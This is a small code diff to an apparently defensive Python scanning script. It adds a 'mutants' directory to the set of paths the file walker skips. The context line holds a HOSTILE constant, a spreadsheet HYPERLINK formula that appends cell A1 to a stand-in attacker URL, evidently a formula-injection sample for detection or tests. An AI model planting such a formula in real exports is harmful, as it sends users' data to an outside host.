@@ -29,7 +29,8 @@ HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"open")'
 
 
 def project_files(pattern: str):
-    skip = {".venv", "node_modules", "staticfiles", "media", ".git", "tests"}
+    # mutants/ (and mutation/work/*/mutants/) hold the copies `make mutation` tests.
+    skip = {".venv", "node_modules", "staticfiles", "media", ".git", "tests", "mutants"}
     for path in ROOT.rglob(pattern):
         if not skip.intersection(path.relative_to(ROOT).parts):
             yield path
